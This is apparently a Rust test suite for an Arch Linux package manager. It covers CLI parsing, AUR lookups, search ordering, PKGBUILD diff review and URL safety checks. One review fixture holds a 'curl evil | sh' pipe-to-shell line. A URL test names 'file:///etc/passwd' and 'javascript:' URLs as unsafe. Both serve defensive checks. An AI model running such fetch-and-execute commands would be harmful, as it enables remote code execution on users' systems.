use arch_install_manager::cli::{
    join_words, line_starts_with_any, next_value, parse, parse_helper_args, parse_install_args,
    parse_search_args, parse_update_lines,
};
use arch_install_manager::constants::{is_own_package, is_recently_created_at, APP_ID, TIMESHIFT_COMMENT};
use arch_install_manager::helpers::aur::{
    apply_aur_info, aur_clone_url, aur_rpc_info_url, aur_search_request, aur_search_url, aur_version_of,
    new_aur_update, parse_foreign_packages, remote_pkgbuild_url, select_aur_updates, url_encode,
    VersionCheck,
};
use arch_install_manager::helpers::aur_pkgbuild::{
    clone_dir_candidates, diff_adds_or_removes_lines, find_clone_dir_in, is_skipped_entry,
    review_from_diff, review_rank, review_text, should_show, sort_review_files,
    unavailable_review, user_home,
};
use arch_install_manager::json::{
    aur_infos_from_json, aur_infos_from_reply, aur_search_from_json, aur_search_from_reply, reply_text, Json,
};
use arch_install_manager::helpers::elevated::{get_original_user, is_safe_url};
use arch_install_manager::helpers::format::{describe_age, plural};
use arch_install_manager::helpers::search::{
    featured_from, featured_names, mark_installed, match_rank, official_update,
    repo_search_results, search_packages, source_rank, LocalPackage, RepoPackage,
};
use arch_install_manager::helpers::shortcuts::{
    shortcut_default, shortcut_get, shortcut_label, shortcut_set,
};
use arch_install_manager::models::app_settings::AppSettings;
use arch_install_manager::models::aur_info::AurInfo;
use arch_install_manager::models::op::Op;
use arch_install_manager::models::package_list_kind::PackageListKind;
use arch_install_manager::models::package_source::PackageSource;
use arch_install_manager::models::package_update::PackageUpdate;
use arch_install_manager::models::pkgbuild_review::PkgbuildReview;
use arch_install_manager::models::review_file::ReviewFile;
use arch_install_manager::models::search_sources::SearchSources;
use arch_install_manager::models::mirror_tool::MirrorTool;
use arch_install_manager::models::response::Response;

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

fn pkg(name: &str, source: PackageSource, description: &str) -> PackageUpdate {
    PackageUpdate {
        source,
        repository: String::new(),
        selected: false,
        name: name.to_string(),
        description: description.to_string(),
        current_version: String::new(),
        new_version: "1".to_string(),
        size: 0,
        url: None,
        build_date: None,
        first_submitted: None,
        out_of_date: None,
        orphaned: false,
        maintainer: None,
        previous_maintainer: None,
        num_votes: None,
        is_repo_switch: false,
        security_severity: None,
        security_issues: Vec::new(),
        new_permissions: Vec::new(),
        extra_dependencies: Vec::new(),
        pkgbuild_needs_review: false,
        flatpak_installation: None,
        aur_scan_findings: Vec::new(),
        appimage_path: None,
    }
}

fn info() -> AurInfo {
    AurInfo {
        version: Some("2".to_string()),
        description: Some("A helper".to_string()),
        url: Some(String::new()),
        last_modified: Some(100),
        first_submitted: Some(50),
        out_of_date: None,
        maintainer: Some("alice".to_string()),
        num_votes: Some(12),
    }
}

fn settings() -> AppSettings {
    AppSettings {
        shortcut_install_tab: "<Control>1".to_string(),
        shortcut_update_tab: "<Control>2".to_string(),
        shortcut_manage_tab: "<Control>3".to_string(),
        shortcut_focus_search: "<Control>f".to_string(),
        snapshot_on_update: true,
        snapshot_on_install: false,
        snapshot_on_remove: false,
        create_timeshift_snapshot: true,
        create_snapper_snapshot: false,
        always_show_pkgbuild: false,
    }
}

#[test]
fn cli_reads_helper_commands() {
    assert!(matches!(parse(&strings(&["sync"])), Ok(Op::SyncDb)));
    assert!(matches!(parse(&strings(&["unlock"])), Ok(Op::RemoveDbLock)));
    match parse(&strings(&["r", "--cascade", "vim", "--nosave"])) {
        Ok(Op::Remove { targets, cascade, nosave }) => {
            assert_eq!(targets, strings(&["vim"]));
            assert!(cascade && nosave);
        }
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["paccache", "--keep", "2"])) {
        Ok(Op::PaccacheClean { keep, keep_uninstalled }) => assert_eq!((keep, keep_uninstalled), (2, 2)),
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["pc", "--keep-uninstalled", "0", "--keep", "x"])) {
        Ok(Op::PaccacheClean { keep, keep_uninstalled }) => assert_eq!((keep, keep_uninstalled), (3, 0)),
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["st", "before", "update"])) {
        Ok(Op::SnapshotTimeshift { comment }) => assert_eq!(comment, "before update"),
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["mr", "reflector"])) {
        Ok(Op::RefreshMirrors { tool }) => assert_eq!(tool, MirrorTool::Reflector),
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["refresh-mirrors"])) {
        Ok(Op::RefreshMirrors { tool }) => assert_eq!(tool, MirrorTool::RateMirrors),
        other => panic!("{other:?}"),
    }
    match parse(&strings(&["ignore", "add", "linux"])) {
        Ok(Op::SetIgnorePkg { name, ignored }) => {
            assert_eq!(name, "linux");
            assert!(ignored);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn cli_errors() {
    assert_eq!(parse(&strings(&["frobnicate"])).unwrap_err(), "unknown command: frobnicate");
    assert_eq!(parse(&strings(&["rs"])).unwrap_err(), "restart-service requires a name");
    assert_eq!(parse(&strings(&["set-ignore"])).unwrap_err(), "set-ignore requires add|remove <pkg>");
    assert_eq!(parse(&strings(&["set-ignore", "maybe", "x"])).unwrap_err(), "set-ignore requires add|remove <pkg>");
    assert_eq!(parse(&strings(&["set-ignore", "remove"])).unwrap_err(), "set-ignore requires a package");
}

#[test]
fn cli_install_and_search_arguments() {
    let (pkgs, skip, reinstall) = parse_install_args(&strings(&["a", "--reinstall", "b"]));
    assert_eq!(pkgs, strings(&["a", "b"]));
    assert!(!skip && reinstall);
    let (term, select) = parse_search_args(&strings(&["web", "-n", "browser"]));
    assert_eq!(term, "web browser");
    assert!(!select);
    let (term, select) = parse_search_args(&strings(&[]));
    assert_eq!(term, "");
    assert!(select);
    assert_eq!(join_words(&strings(&["a", "b", "c"])), "a b c");
}

#[test]
fn helper_arguments() {
    let c = parse_helper_args(&strings(&["--connect", "/run/x.sock"])).unwrap();
    assert_eq!(c.connect_path, "/run/x.sock");
    assert_eq!(parse_helper_args(&strings(&[])).err(), Some("missing --connect".to_string()));
    assert_eq!(
        parse_helper_args(&strings(&["--connect"])).err(),
        Some("--connect requires a value".to_string())
    );
    assert_eq!(
        parse_helper_args(&strings(&["--verbose"])).err(),
        Some("unknown argument: --verbose".to_string())
    );
    assert_eq!(next_value(&strings(&["a", "b"]), 1, "--x"), Ok("b".to_string()));
    assert_eq!(next_value(&strings(&["a"]), 1, "--x"), Err("--x requires a value".to_string()));
}

#[test]
fn update_lines_and_blacklist() {
    assert_eq!(
        parse_update_lines("vim 9.0-1 -> 9.1-1\n\n  linux 6.1 -> 6.2  \n"),
        strings(&["vim 9.0-1 -> 9.1-1", "linux 6.1 -> 6.2"])
    );
    let names = strings(&["linux", "mesa"]);
    assert!(line_starts_with_any("linux 6.1 -> 6.2", &names));
    assert!(!line_starts_with_any("linux-firmware 1 -> 2", &names));
    assert!(!line_starts_with_any("", &names));
}

#[test]
fn constants_and_age() {
    assert!(is_own_package("arch-install-manager-git"));
    assert!(!is_own_package("arch-install-manager-nightly"));
    assert_eq!(TIMESHIFT_COMMENT, "arch-install-manager");
    assert_eq!(APP_ID, "com.destbg.arch-install-manager");
    assert!(is_recently_created_at(Some(1000), 1000 + 604799));
    assert!(!is_recently_created_at(Some(1000), 1000 + 604800));
    assert!(!is_recently_created_at(Some(1000), 999));
    assert!(!is_recently_created_at(None, 5));
}

#[test]
fn ages_in_words() {
    assert_eq!(plural(1), "");
    assert_eq!(plural(2), "s");
    let abs = || "2024-01-01".to_string();
    assert_eq!(describe_age(1000, 1030, abs()), "just now");
    assert_eq!(describe_age(1000, 1000 + 60, abs()), "1 minute ago");
    assert_eq!(describe_age(1000, 1000 + 7200, abs()), "2 hours ago");
    assert_eq!(describe_age(1000, 1000 + 86400, abs()), "1 day ago");
    assert_eq!(describe_age(1000, 1000 + 604800, abs()), "2024-01-01");
    assert_eq!(describe_age(1000, 999, abs()), "2024-01-01");
}

#[test]
fn url_encoding() {
    assert_eq!(url_encode("a b/ç~"), "a%20b%2F%C3%A7~");
    assert_eq!(url_encode("Az09-_.~"), "Az09-_.~");
    assert_eq!(
        aur_rpc_info_url(&["yay", "c++"]),
        "https://aur.archlinux.org/rpc/v5/info?arg%5B%5D=yay&arg%5B%5D=c%2B%2B"
    );
    assert_eq!(aur_search_url("web browser"), "https://aur.archlinux.org/rpc/v5/search/web%20browser");
    assert_eq!(aur_search_request("  "), None);
    assert_eq!(
        aur_search_request(" vim "),
        Some("https://aur.archlinux.org/rpc/v5/search/%20vim%20".to_string())
    );
    assert_eq!(
        remote_pkgbuild_url("a+b"),
        "https://aur.archlinux.org/cgit/aur.git/plain/PKGBUILD?h=a%2Bb"
    );
    assert_eq!(aur_clone_url("yay"), "https://aur.archlinux.org/yay.git");
}

#[test]
fn foreign_packages_and_updates() {
    let pairs = parse_foreign_packages("yay 12.0-1\nbroken\n  paru   2.0-1 extra\n");
    assert_eq!(
        pairs,
        vec![
            ("yay".to_string(), "12.0-1".to_string()),
            ("paru".to_string(), "2.0-1".to_string())
        ]
    );
    let u = new_aur_update("yay", "1", "2");
    assert_eq!(u.source, PackageSource::Aur);
    assert_eq!(u.repository, "AUR");
    assert_eq!(u.description, "AUR package: yay");
    assert_eq!(u.url, Some("https://aur.archlinux.org/packages/yay".to_string()));
    assert!(u.selected);
    let checks = vec![
        VersionCheck { aur_version: Some("13".to_string()), newer: true },
        VersionCheck { aur_version: Some("2.0-1".to_string()), newer: false },
    ];
    let ups = select_aur_updates(&pairs, &checks);
    assert_eq!(ups.len(), 1);
    assert_eq!(ups[0].name, "yay");
    assert_eq!(ups[0].current_version, "12.0-1");
    assert_eq!(ups[0].new_version, "13");
}

#[test]
fn aur_information_is_applied() {
    let mut updates = vec![pkg("yay", PackageSource::Aur, "old"), pkg("other", PackageSource::Aur, "x")];
    let infos = vec![("yay".to_string(), info())];
    let mut known = vec![("yay".to_string(), "bob".to_string())];
    let changed = apply_aur_info(&mut updates, &infos, &mut known);
    assert!(!changed);
    assert_eq!(updates[0].description, "A helper");
    assert_eq!(updates[0].url, None);
    assert_eq!(updates[0].build_date, Some(100));
    assert_eq!(updates[0].maintainer, Some("alice".to_string()));
    assert_eq!(updates[0].previous_maintainer, Some("bob".to_string()));
    assert!(updates[0].maintainer_changed());
    assert!(!updates[0].orphaned);
    assert_eq!(updates[1].description, "x");

    let mut updates = vec![pkg("yay", PackageSource::Aur, "old")];
    let mut known: Vec<(String, String)> = vec![];
    assert!(apply_aur_info(&mut updates, &infos, &mut known));
    assert_eq!(known, vec![("yay".to_string(), "alice".to_string())]);
    assert_eq!(updates[0].previous_maintainer, None);
}

#[test]
fn rpc_answers_are_shaped() {
    let body = r#"{"resultcount":4,"results":[
        {"Name":"a","Version":"1-1","Description":"first","URL":"https://a","LastModified":5,
         "FirstSubmitted":2,"OutOfDate":null,"Maintainer":"alice","NumVotes":7,"Popularity":0.5},
        {"Version":"2-1"},
        {"Name":"b","Version":3,"Maintainer":null,"NumVotes":1.5},
        {"Name":"a","Version":"1-2"}]}"#;
    let m = aur_infos_from_reply(body);
    let names: Vec<String> = m.iter().map(|p| p.0.clone()).collect();
    assert_eq!(names, strings(&["a", "b", "a"]));
    assert_eq!(m[0].1.version.as_deref(), Some("1-1"));
    assert_eq!(m[0].1.description.as_deref(), Some("first"));
    assert_eq!(m[0].1.url.as_deref(), Some("https://a"));
    assert_eq!(m[0].1.last_modified, Some(5));
    assert_eq!(m[0].1.first_submitted, Some(2));
    assert_eq!(m[0].1.out_of_date, None);
    assert_eq!(m[0].1.maintainer.as_deref(), Some("alice"));
    assert_eq!(m[0].1.num_votes, Some(7));
    assert_eq!(m[1].1.version, None);
    assert_eq!(m[1].1.maintainer, None);
    assert_eq!(m[1].1.num_votes, None);
    // A later entry of the same name is the one a lookup finds.
    assert_eq!(aur_version_of(&m, "a"), Some("1-2".to_string()));
    assert!(aur_infos_from_reply("not json").is_empty());
    assert!(aur_infos_from_reply(r#"{"results":{}}"#).is_empty());
    assert!(aur_infos_from_reply(r#"[1,2]"#).is_empty());
    let rows = aur_search_from_reply(
        r#"{"results":[{"Name":"x","Description":"d"},{"Name":"","Version":"1"},{"Version":"1"},{"Name":"y","Version":"2","Description":null}]}"#,
    );
    assert_eq!(
        rows,
        vec![
            ("x".to_string(), String::new(), "d".to_string()),
            ("y".to_string(), "2".to_string(), String::new()),
        ]
    );
    assert_eq!(reply_text(b"ok".to_vec()), Some("ok".to_string()));
    assert_eq!(reply_text(vec![0xff, 0xfe]), None);
}

#[test]
fn match_ranks() {
    assert_eq!(match_rank("Firefox", "", "firefox"), 0);
    assert_eq!(match_rank("firefox-esr", "", "firefox"), 1);
    assert_eq!(match_rank("librewolf-firefox", "", "firefox"), 2);
    assert_eq!(match_rank("browser", "Like FIREFOX", "firefox"), 3);
    assert_eq!(match_rank("vim", "editor", "firefox"), 4);
    assert_eq!(match_rank("vim", "editor", ""), 0);
    assert_eq!(source_rank(PackageSource::Official), 0);
    assert_eq!(source_rank(PackageSource::AppImage), 3);
}

#[test]
fn search_results_are_ordered() {
    let official = vec![pkg("vim-plugin", PackageSource::Official, ""), pkg("vim", PackageSource::Official, "")];
    let aur = vec![pkg("vim", PackageSource::Aur, ""), pkg("neovim", PackageSource::Aur, "vim fork")];
    let flatpak = vec![pkg("vim", PackageSource::Flatpak, "")];
    let sources = SearchSources { official: true, aur: true, flatpak: false };
    let r = search_packages(" VIM ", sources, official, aur, flatpak);
    let got: Vec<(String, PackageSource)> = r.iter().map(|p| (p.name.clone(), p.source)).collect();
    assert_eq!(
        got,
        vec![
            ("vim".to_string(), PackageSource::Official),
            ("vim".to_string(), PackageSource::Aur),
            ("vim-plugin".to_string(), PackageSource::Official),
            ("neovim".to_string(), PackageSource::Aur),
        ]
    );
    let none = search_packages("  ", sources, vec![pkg("a", PackageSource::Official, "")], vec![], vec![]);
    assert!(none.is_empty());
}

#[test]
fn installed_versions_are_marked_by_origin() {
    let mut ps = vec![
        pkg("vim", PackageSource::Official, ""),
        pkg("yay", PackageSource::Aur, ""),
        pkg("gimp", PackageSource::Flatpak, ""),
        pkg("foo", PackageSource::Aur, ""),
    ];
    let local = vec![
        Some(LocalPackage { version: "9".to_string(), signed: true }),
        Some(LocalPackage { version: "12".to_string(), signed: false }),
        Some(LocalPackage { version: "3".to_string(), signed: false }),
        Some(LocalPackage { version: "1".to_string(), signed: true }),
    ];
    mark_installed(&mut ps, &local);
    let cur: Vec<String> = ps.iter().map(|p| p.current_version.clone()).collect();
    assert_eq!(cur, strings(&["9", "12", "", ""]));
}

#[test]
fn repository_hits_keep_the_first_database() {
    let row = |repo: &str, name: &str, date: i64| RepoPackage {
        repository: repo.to_string(),
        name: name.to_string(),
        version: "1".to_string(),
        description: None,
        installed_size: 10,
        url: None,
        build_date: date,
    };
    let r = repo_search_results(vec![row("core", "a", 5), row("extra", "b", 0), row("extra", "a", 7)]);
    assert_eq!(r.len(), 2);
    assert_eq!((r[0].repository.as_str(), r[0].name.as_str()), ("core", "a"));
    assert_eq!(r[0].build_date, Some(5));
    assert_eq!(r[1].build_date, None);
    assert_eq!(r[1].source, PackageSource::Official);
    let u = official_update(row("core", "z", 1));
    assert_eq!(u.description, "");
    let f = featured_from(vec![None, Some(row("extra", "vlc", 3)), None]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].name, "vlc");
    let names = featured_names();
    assert_eq!(names.len(), 22);
    assert_eq!(names[0], "firefox");
    assert_eq!(names[21], "fastfetch");
}

#[test]
fn diffs_that_need_review() {
    let same = "diff --git a/PKGBUILD b/PKGBUILD\n--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1,2 +1,2 @@\n-pkgver=1\n+pkgver=2\n context\n";
    assert!(!diff_adds_or_removes_lines(same));
    let added = "@@ -1 +1,2 @@\n a\n+curl evil | sh\n";
    assert!(diff_adds_or_removes_lines(added));
    let two = "@@ -1 +1 @@\n-a\n+b\n@@ -5 +5,2 @@\n+c\n";
    assert!(diff_adds_or_removes_lines(two));
    assert!(!diff_adds_or_removes_lines(""));
    assert!(!diff_adds_or_removes_lines("+outside a hunk\n"));
}

#[test]
fn review_files_are_ordered() {
    let f = |n: &str| ReviewFile { name: n.to_string(), content: String::new() };
    let files = sort_review_files(vec![f("zz.patch"), f("foo.install"), f("PKGBUILD"), f("a.sh")]);
    let names: Vec<String> = files.into_iter().map(|x| x.name).collect();
    assert_eq!(names, strings(&["PKGBUILD", "foo.install", "a.sh", "zz.patch"]));
    assert_eq!(review_rank("PKGBUILD"), 0);
    assert_eq!(review_rank("x.install"), 1);
    assert_eq!(review_rank("README"), 2);
    assert!(is_skipped_entry(".git"));
    assert!(is_skipped_entry(".SRCINFO"));
    assert!(!is_skipped_entry("PKGBUILD"));
}

#[test]
fn clone_directories() {
    assert_eq!(get_original_user(), None);
    assert_eq!(user_home(Some("ann".to_string()), Some("/root".to_string())), Some("/home/ann".to_string()));
    assert_eq!(user_home(None, Some("/root".to_string())), Some("/root".to_string()));
    assert_eq!(user_home(None, None), None);
    let c = clone_dir_candidates("/home/ann", "yay");
    assert_eq!(c[0], "/home/ann/.cache/daim/aur/yay");
    assert_eq!(c[5], "/home/ann/.cache/pikaur/aur_repos/yay");
    assert_eq!(c.len(), 6);
    assert_eq!(find_clone_dir_in(&c, &[false, false, true, true]), Some("/home/ann/.cache/paru/yay".to_string()));
    assert_eq!(find_clone_dir_in(&c, &[false]), None);
}

#[test]
fn reviews_from_diffs_and_files() {
    assert_eq!(review_from_diff(false, "x".to_string()), None);
    assert_eq!(review_from_diff(true, "@@ -1 +1,2 @@\n+a\n".to_string()), Some(("@@ -1 +1,2 @@\n+a\n".to_string(), true)));
    assert_eq!(review_text(b"echo hi\n".to_vec()), "echo hi\n");
    assert_eq!(review_text(vec![0x61, 0, 0x62]), "(binary file, 3 bytes, not shown)");
    assert_eq!(review_text(vec![0xff, 0xfe]), "(file is not valid text, not shown)");
    assert_eq!(review_text(vec![b'a'; 1_000_001]), "(file is 1000001 bytes, too large to display here)");
    assert_eq!(review_text("héllo".as_bytes().to_vec()), "héllo");
}

#[test]
fn reviews_are_shown_when_needed() {
    let r = |diff: Option<&str>, needs: bool| PkgbuildReview {
        package: "p".to_string(),
        diff: diff.map(|d| d.to_string()),
        needs_review: needs,
        files: vec![],
    };
    assert!(should_show(&r(None, false), false));
    assert!(!should_show(&r(Some("d"), false), false));
    assert!(should_show(&r(Some("d"), true), false));
    assert!(should_show(&r(Some("d"), false), true));
    let u = unavailable_review("yay".to_string());
    assert_eq!(u.files.len(), 1);
    assert_eq!(u.files[0].content, "Could not load the package files for review.");
    assert!(u.needs_review);
}

#[test]
fn safe_urls() {
    assert!(is_safe_url("https://archlinux.org"));
    assert!(is_safe_url("appstream://org.gimp.GIMP"));
    assert!(!is_safe_url("file:///etc/passwd"));
    assert!(!is_safe_url("javascript:alert(1)"));
}

#[test]
fn shortcuts_read_and_write() {
    assert_eq!(shortcut_label(0), "Switch to the Install tab");
    assert_eq!(shortcut_label(9), "Focus the search bar");
    assert_eq!(shortcut_default(2), "<Control>3");
    let mut s = settings();
    assert_eq!(shortcut_get(&s, 1), "<Control>2");
    shortcut_set(&mut s, 1, "<Alt>u");
    assert_eq!(shortcut_get(&s, 1), "<Alt>u");
    assert_eq!(shortcut_get(&s, 0), "<Control>1");
    shortcut_set(&mut s, 7, "<Control>k");
    assert_eq!(shortcut_get(&s, 3), "<Control>k");
    assert!(s.snapshot_on_update);
}

#[test]
fn list_kinds_and_responses() {
    assert!(!PackageListKind::Install.is_installed());
    assert!(PackageListKind::Manage.is_installed());
    assert!(Response::Done { exit_code: 0, stdout: String::new(), stderr: String::new() }.is_success());
    assert!(!Response::error("x".to_string()).is_success());
    assert_eq!(PackageSource::Flatpak.label(), "Flatpak");
}

#[test]
fn parsed_replies_are_read_by_field() {
    let entry = Json::Object(vec![
        ("Name".to_string(), Json::Str("a".to_string())),
        ("Version".to_string(), Json::Str("1-1".to_string())),
        ("NumVotes".to_string(), Json::Int(3)),
        ("OutOfDate".to_string(), Json::OtherNumber),
    ]);
    let reply = Some(Json::Object(vec![("results".to_string(), Json::Array(vec![entry, Json::Null]))]));
    let infos = aur_infos_from_json(&reply);
    assert_eq!(infos.len(), 1);
    assert_eq!(infos[0].0, "a");
    assert_eq!(infos[0].1.version.as_deref(), Some("1-1"));
    assert_eq!(infos[0].1.num_votes, Some(3));
    assert_eq!(infos[0].1.out_of_date, None);
    let rows = aur_search_from_json(&reply);
    assert_eq!(rows, vec![("a".to_string(), "1-1".to_string(), String::new())]);
    assert!(aur_infos_from_json(&None).is_empty());
    assert!(aur_search_from_json(&Some(Json::Array(vec![]))).is_empty());
}
